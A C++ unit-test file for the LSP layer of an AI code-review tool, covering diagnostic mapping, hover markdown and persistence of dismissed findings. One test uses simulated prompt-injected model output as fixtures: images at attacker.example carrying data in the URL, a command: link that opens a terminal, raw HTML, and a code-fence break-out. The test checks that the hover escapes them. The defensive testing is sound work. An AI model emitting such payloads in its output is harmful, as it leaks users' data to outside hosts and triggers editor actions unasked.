// contract.md "LSP mapping", hover text, and the dismissed findings kept under
// .git/revline/ (the review cache is tested in tests/unit/session).
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "lsp/findings.h"
#include "lsp/dismissals.h"

namespace revline::lsp {
namespace {
namespace fs = std::filesystem;

review::PublishedFinding sample() {
  review::PublishedFinding p;
  p.id = "0123456789abcdef";
  auto& f = p.finding;
  f.file = "src/a.cpp";
  f.line = 3;
  f.endLine = 4;
  f.severity = contract::Severity::Blocker;
  f.category = contract::Category::Security;
  f.title = "SQL built from user input";
  f.explanation = "The query concatenates the name.";
  f.suggestedFix = "Use a bound parameter.";
  f.edit = contract::Edit{"a\nb", "c\nd"};
  f.confidence = 0.82;
  return p;
}

TEST(Mapping, FollowsTheContract) {
  Diagnostic d = toDiagnostic(place(sample()), 7);
  EXPECT_EQ(d.range, (Range{{2, 0}, {3, 7}}));
  EXPECT_EQ(d.severity, DiagnosticSeverity::Error);
  EXPECT_EQ(d.code, "SECURITY");
  EXPECT_EQ(d.source, "revline");
  EXPECT_EQ(d.message, "SQL built from user input\n\nThe query concatenates the name. (confidence 0.82)");
  EXPECT_EQ(d.data, json({{"id", "0123456789abcdef"}}));
  EXPECT_EQ(severityFor(contract::Severity::Major), DiagnosticSeverity::Warning);
  EXPECT_EQ(severityFor(contract::Severity::Minor), DiagnosticSeverity::Information);
  EXPECT_EQ(severityFor(contract::Severity::Nit), DiagnosticSeverity::Hint);
  json wire = d;
  EXPECT_EQ(wire["severity"], 1);
}

TEST(Mapping, HoverHasEverything) {
  const std::string md = hoverMarkdown(sample().finding);
  for (const char* part : {"SQL built from user input", "BLOCKER", "SECURITY", "0.82", "The query concatenates",
                           "Use a bound parameter."})
    EXPECT_NE(md.find(part), std::string::npos) << part;
}

// A prompt-injected model's words in a hover: an image an editor would fetch
// with data in its URL, a command: link, raw HTML, and a replacement whose "```"
// closed the block early so its own image rendered. Shown as text, not rendered.
TEST(Mapping, HoverShowsTheModelsMarkdownAsText) {
  contract::Finding f = sample().finding;
  f.title = "See ![x](https://attacker.example/t.png?d=title) \\`![t](https://attacker.example/a.png)`";
  f.explanation = "Look: ![s](https://attacker.example/p.png?d=secret) [run](command:workbench.action.terminal.new) "
                  "<img src=https://attacker.example/i.png>";
  f.suggestedFix = "[click](https://attacker.example/)";
  f.edit = contract::Edit{"a", "x = 1\n```\n![e](https://attacker.example/e.png)"};
  const std::string md = hoverMarkdown(f);
  // Each link or image opener as written, not escaped ("\\[" shows a bracket).
  const auto unescaped = [&md](const std::string& text) {
    for (auto at = md.find(text); at != std::string::npos; at = md.find(text, at + 1))
      if (at == 0 || md[at - 1] != '\\') return true;
    return false;
  };
  for (const char* rendered : {"[x](", "[t](", "[s](", "[run](", "<img", "[click]("})
    EXPECT_FALSE(unescaped(rendered)) << rendered << "\n" << md;
  // The replacement stays whole inside one block a longer fence opens and closes.
  const auto open = md.find("````\nx = 1\n```\n![e]");
  ASSERT_NE(open, std::string::npos) << md;
  EXPECT_NE(md.find("](https://attacker.example/e.png)\n````\n", open), std::string::npos) << md;
}

struct TempGitDir {
  fs::path root;
  TempGitDir() {
    root = fs::temp_directory_path() / ("revline-lsp-state-" + std::to_string(::getpid()) + "-" +
                                        std::to_string(reinterpret_cast<std::uintptr_t>(this)));
    fs::create_directories(root / ".git");
  }
  ~TempGitDir() { fs::remove_all(root); }
};

TEST(Dismissed, RememberedAcrossInstances) {
  TempGitDir dir;
  {
    DismissedFindings d(dir.root);
    d.add("abc");
  }
  DismissedFindings again(dir.root);
  EXPECT_TRUE(again.contains("abc"));
  EXPECT_FALSE(again.contains("def"));
}

// Two servers on one repository: each change is merged into what the other wrote.
TEST(Dismissed, TwoServersNeverLoseEachOthersEntries) {
  TempGitDir dir;
  DismissedFindings first(dir.root), second(dir.root);
  first.add("from-first");
  second.add("from-second");  // second has not re-read: the merge must keep "from-first"
  DismissedFindings fresh(dir.root);
  EXPECT_TRUE(fresh.contains("from-first"));
  EXPECT_TRUE(fresh.contains("from-second"));
  first.refresh();
  EXPECT_TRUE(first.contains("from-second"));
  second.remove("from-first");  // undo by the other server
  first.refresh();
  EXPECT_FALSE(first.contains("from-first"));
  EXPECT_TRUE(first.contains("from-second"));
}

}  // namespace
}  // namespace revline::lsp
